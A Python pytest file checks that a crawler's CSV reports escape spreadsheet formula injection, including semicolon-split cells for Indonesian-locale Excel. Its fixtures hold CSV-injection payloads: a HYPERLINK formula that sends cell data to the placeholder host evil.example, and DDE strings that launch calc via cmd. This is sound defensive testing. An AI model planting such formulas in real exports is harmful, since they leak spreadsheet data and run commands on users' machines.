"""CSV output is safe to open in a spreadsheet (issue 13, item 9): a cell that starts with
``=``, ``+``, ``-``, ``@``, a tab or a carriage return is not run as a formula."""

from __future__ import annotations

import csv
import io

import pytest
from click.testing import CliRunner

from crawler import store
from crawler.cli import cli
from crawler.spreadsheets import csv_cell

HOSTILE = {
    "kim-a": '=HYPERLINK("http://evil.example/?x="&A1,"klik")',
    "kim-b": "+1+cmd|' /C calc'!A0",
    "kim-c": "-2+3",
    "kim-d": "@SUM(1+1)*cmd|' /C calc'!A0",
    "kim-h": "\t=1+1",
    "kim-f": "\r=1+1",
}


@pytest.fixture
def hostile_db(db_file: str) -> str:
    db = store.connect(db_file)
    with store.transaction(db):
        for kim_id, name in HOSTILE.items():
            db.execute("UPDATE kims SET name = ?, village = ? WHERE id = ?", [name, name, kim_id])
        db.execute("UPDATE announcements SET title = '=cmd|''/C calc''!A0' WHERE id = 'ann-1'")
        db.execute("UPDATE sources SET name = '@Diskominfo' WHERE id = 'prov'")
    db.close()
    return db_file


@pytest.mark.parametrize("table", ["kims", "announcements"])
def test_report_csv_escapes_formulas(hostile_db: str, table: str) -> None:
    result = CliRunner().invoke(cli, ["--db", hostile_db, "report", "--until", "2024-10-31", "--format", "csv",
                                      "--csv-table", table], catch_exceptions=False)
    assert result.exit_code == 0, result.output
    rows = list(csv.reader(io.StringIO(result.output, newline="")))
    cells = [cell for row in rows[1:] for cell in row]
    assert cells, rows
    for cell in cells:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n")), cell
    if table == "kims":
        names = {row[0]: row[1] for row in rows[1:]}
        assert names["kim-a"] == "'" + HOSTILE["kim-a"]  # kept readable, just not executable
        assert names["kim-c"] == "'-2+3"
    else:
        assert any(cell == "'=cmd|'/C calc'!A0" for cell in cells)
        assert any(cell == "'@Diskominfo" for cell in cells)


@pytest.mark.parametrize(("value", "expected"), [
    ("=1+1", "'=1+1"), ("+62 812", "'+62 812"), ("-", "'-"), ("@x", "'@x"), ("\t=1", "'\t=1"),
    (" =1", "' =1"), ("\r=1", "'\n=1"), ("a\r\nb", "a\nb"), ("KIM Alalak", "KIM Alalak"), ("1-2", "1-2"), (-1.5, -1.5), (0, 0), ("", ""),
])
def test_csv_cell(value: object, expected: object) -> None:
    assert csv_cell(value) == expected


@pytest.mark.parametrize(("value", "expected"), [
    ("KIM Semi;=2+5;x", "KIM Semi;'=2+5;x"), ("a;@SUM(1)", "a;'@SUM(1)"), ("normal;text", "normal;text"),
])
def test_a_formula_after_a_semicolon_is_text_too(value: str, expected: str) -> None:
    """Excel in an Indonesian locale splits at ";" as well: each piece must not start a formula."""
    assert csv_cell(value) == expected
